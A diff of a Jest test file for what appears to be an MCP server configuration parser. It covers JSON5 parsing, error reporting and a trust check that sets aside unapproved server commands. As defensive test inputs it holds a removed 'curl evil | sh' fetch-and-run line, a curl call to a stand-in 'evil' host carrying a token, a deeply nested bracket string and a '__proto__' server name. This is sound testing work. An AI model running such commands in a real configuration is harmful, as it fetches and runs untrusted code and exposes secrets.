@@ -40,6 +40,36 @@ test.each([
   expect(only({ mcpServers: { x: entry } }).spec).toEqual({ type, url: "https://x.test/mcp" });
 });
 
+test("mcp-hub: JSON5, with names unquoted, single quotes, broken lines and numbers in base 16", () => {
+  const server = only(
+    `{
+    mcpServers: {
+      // mcp-hub reads its files with variables as VS Code writes them
+      hub: { command: 'npx', args: ['-y', "one\\
+two",], env: { KEY: '\${env:KEY}' }, timeout: 0x100, },
+    },
+  }`,
+    { env: { KEY: "k" } },
+  );
+  expect(server.spec).toEqual({
+    type: "stdio",
+    command: "npx",
+    args: ["-y", "onetwo"],
+    env: { KEY: "k" },
+    policy: { timeouts: { callMs: 256 } },
+  });
+});
+
+test("a file of brackets alone, however many, is no configuration and does no harm; a server may be named __proto__", () => {
+  const deep = "[".repeat(100_000) + "]".repeat(100_000);
+  expect(() => parseConfig(deep)).toThrow(expect.objectContaining({ code: "INVALID_CONFIG" }));
+  const { servers } = parseConfig('{"mcpServers": {"__proto__": {"command": "a"}}}');
+  expect(servers.map(({ name, spec }) => [name, spec.type])).toEqual([["__proto__", "stdio"]]);
+  expect(
+    Object.keys(selectServers(parseConfig('{"mcpServers": {"__proto__": {"command": "a"}}}')).servers),
+  ).toEqual(["__proto__"]);
+});
+
 test("Claude Code: variables and defaults, once and without a shell", () => {
   const env = { HOME: "/home/ann", NESTED: "${HOME}", EMPTY: "" };
   const entry = {
@@ -178,7 +208,7 @@ test.each([
   ["no object", [], /no object/],
   ["a list of servers by name", { servers: [] }, /no object of servers/],
   ["an entry of Continue without a name", { mcpServers: [{ command: "a" }] }, /name of its own/],
-  ["broken JSON", '{\n"mcpServers": {\n"x": "SECRET\n}', /line 3/],
+  ["broken JSON", '{\n"mcpServers": {\n"x": "SECRET" "y"}}', /line 3/],
 ])("%s is an error", (_, source, message) => {
   expect(() => parseConfig(source)).toThrow(expect.objectContaining({ code: "INVALID_CONFIG" }));
   expect(() => parseConfig(source)).toThrow(message);
@@ -270,12 +300,22 @@ test("the trust hash changes with what would run, not with the values of ordinar
   expect(preload("--require a")).not.toBe(preload("--require b"));
 });
 
-test("what nobody has agreed to is kept apart", () => {
+test("R-796: what nobody has agreed to is kept apart, with the whole command to be shown, and only its secrets are not", () => {
   const before = parseConfig({ mcpServers: { a: { command: "a" }, b: { command: "b" } } });
   const trusted = new Set(before.servers.map(({ trust }) => trust));
-  const after = parseConfig({ mcpServers: { a: { command: "a" }, b: { command: "curl evil | sh" } } });
+  const after = parseConfig({
+    mcpServers: {
+      a: { command: "a" },
+      b: { command: "curl", args: ["evil", "-o", "x", "--token", "s3cret"] },
+    },
+  });
   const { servers, untrusted } = selectServers(after, { trusted });
   expect(Object.keys(servers)).toEqual(["a"]);
-  expect(untrusted.map(({ name }) => name)).toEqual(["b"]);
+  expect(untrusted.map(({ name, redacted }) => [name, redacted])).toEqual([
+    ["b", { type: "stdio", command: "curl", args: ["evil", "-o", "x", "--token", "[redacted]"] }],
+  ]);
+  // Agreed to as it is now; one more argument, and it is asked again.
+  const agreed = new Set([...trusted, ...untrusted.map(({ trust }) => trust)]);
+  expect(selectServers(after, { trusted: agreed }).untrusted).toEqual([]);
   expect(Object.keys(selectServers(after).servers)).toEqual(["a", "b"]);
 });
